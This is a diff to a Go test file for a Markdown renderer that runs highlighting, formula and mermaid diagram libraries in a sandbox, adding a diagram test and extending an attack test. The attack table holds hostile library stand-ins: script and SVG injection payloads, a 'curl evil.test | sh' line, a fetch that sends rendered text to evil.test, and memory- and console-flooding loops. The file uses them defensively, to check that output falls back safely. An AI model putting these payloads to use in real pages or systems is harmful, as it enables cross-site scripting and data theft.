@@ -3,6 +3,8 @@ package guests
 import (
 	"context"
 	"embed"
+	"maps"
+	"slices"
 	"strings"
 	"testing"
 
@@ -17,7 +19,7 @@ var libraries embed.FS
 func loaded(t *testing.T) *guests {
 	t.Helper()
 	g := preloaded(t, runner(t.Context()))
-	for names := range strings.SplitSeq(core+"|"+more+"|math", "|") {
+	for names := range strings.SplitSeq(core+"|"+more+"|math|mermaid", "|") {
 		lang, _, _ := strings.Cut(names, " ")
 		names, _ := files(lang)
 		var b strings.Builder
@@ -28,11 +30,7 @@ func loaded(t *testing.T) *guests {
 			}
 			b.WriteString(fitting.Replace(string(text)) + "\n;\n")
 		}
-		if lang == "math" {
-			b.WriteString(formulas)
-		} else {
-			b.WriteString(colours)
-		}
+		b.WriteString(behind(names))
 		g.scripts[names] = b.String()
 	}
 	return g
@@ -103,10 +101,33 @@ func TestFormulas(t *testing.T) {
 	}
 }
 
+func TestDiagrams(t *testing.T) {
+	r := renderer(t, loaded(t))
+	for _, c := range []struct{ source, words string }{
+		{"flowchart TD\n  A[Start] --> B{Is it?}\n  B -->|yes| C(Do it)\n  style A fill:#f00,color:#fff", "yes, Start, Is it?, Do it"},
+		{"graph LR\n  a --> b", "a, b"},
+		{"sequenceDiagram\n  Alice->>Bob: Hi", "Hi, Alice, Bob"},
+		{"classDiagram\n  Animal <|-- Dog", "Animal, Dog"},
+		{"stateDiagram-v2\n  [*] --> Still", "Still"},
+		{"erDiagram\n  CUSTOMER ||--o{ ORDER : places", "CUSTOMER, (no attributes), ORDER, (no attributes), places"},
+		{"pie\n  \"a\": 3", ""}, // not among the diagrams of the library
+		{"oops", ""},
+	} {
+		out, report, err := r.Render([]byte("```mermaid\n" + c.source + "\n```\n"))
+		want := `<figure>` + "\n" + `<img src="data:image/svg+xml;base64,`
+		if c.words == "" {
+			want = `<pre><code class="language-mermaid">`
+		}
+		if err != nil || report.Count("") > 0 || !strings.HasPrefix(out.String(), want) || c.words != "" && !strings.Contains(out.String(), `alt="mermaid: `+c.words+`"`) {
+			t.Errorf("%s: %s %v\n%s", c.source, report, err, out)
+		}
+	}
+}
+
 // A library that was replaced by an attacker: whatever it does, the answer shows its source, and the page goes on.
 func TestAttackGuests(t *testing.T) {
 	a := attack.Start(t, "drawn")
-	for name, code := range map[string]string{
+	attacks := map[string]string{
 		"hangs":                 "for (;;);",
 		"never answers":         "return new Promise(() => {})",
 		"throws":                "throw new Error('x')",
@@ -122,6 +143,9 @@ func TestAttackGuests(t *testing.T) {
 		"adds":                  "return args.map((s) => ['a', s.text + '\\ncurl evil.test | sh'])",
 		"a script as a class":   "return args.map((s) => ['\"><script>alert(1)</script>', s.text])",
 		"a script as a formula": "return args.map(() => '<math><mtext><img src=x onerror=alert(1)></mtext></math>')",
+		"a script as a diagram": "return args.map(() => '<svg viewBox=\"0 0 9 9\"><script>alert(1)</script></svg>')",
+		"a page as a diagram":   "return args.map(() => '<svg viewBox=\"0 0 9 9\"><foreignObject><iframe srcdoc=\"x\"></iframe></foreignObject></svg>')",
+		"a load as a diagram":   "return args.map(() => '<svg viewBox=\"0 0 9 9\"><image href=\"https://evil.test/\"/></svg>')",
 		"getters":               "return args.map((s) => Object.defineProperty(['a', ''], 1, { get() { return s.text + 'x' } }))",
 		"a proxy":               "return args.map((s) => new Proxy(['a', 'b'], {}))",
 		"a network":             "await fetch('https://evil.test/?' + args[0].text); return args.map((s) => ['a', 'sent'])",
@@ -132,15 +156,20 @@ func TestAttackGuests(t *testing.T) {
 		"fills the console":     "for (;;) console.log('x'.repeat(1e5))",
 		"fills the memory":      "const l = []; for (;;) l.push('x'.repeat(1e6).split(''))",
 		"messages":              "for (let i = 0; i < 1e5; i++) postMessage(i); return args.map(() => ['a', 'x'])",
-	} {
+	}
+	for i, name := range slices.Sorted(maps.Keys(attacks)) {
+		if testing.Short() && i%3 != 0 {
+			continue // make attack tries all
+		}
+		code := attacks[name]
 		g := preloaded(t, nil)
 		ctx, cancel := context.WithCancel(t.Context())
 		g.ctx, g.run = ctx, runner(ctx)
-		g.scripts["highlight.min.js"], g.scripts["temml.min.js"] = code, code
+		g.scripts["highlight.min.js"], g.scripts["temml.min.js"], g.scripts["mermaid.min.js"] = code, code, code
 		r := renderer(t, g)
-		out, _, err := r.Render([]byte("```go\nrm -r build\n```\n\n$a$\n"))
+		out, _, err := r.Render([]byte("```go\nrm -r build\n```\n\n$a$\n\n```mermaid\ngraph TD\n```\n"))
 		cancel()
-		const want = `<pre><code class="language-go">rm -r build` + "\n</code></pre>\n" + `<p><code class="bailey-tex">a</code></p>` + "\n"
+		const want = `<pre><code class="language-go">rm -r build` + "\n</code></pre>\n" + `<p><code class="bailey-tex">a</code></p>` + "\n" + `<pre><code class="language-mermaid">graph TD` + "\n</code></pre>\n"
 		changed := err != nil || out.String() != want && strings.ReplaceAll(out.String(), `<span>rm -r build</span>`, "rm -r build") != want
 		a.Try(name, changed)
 		if changed {
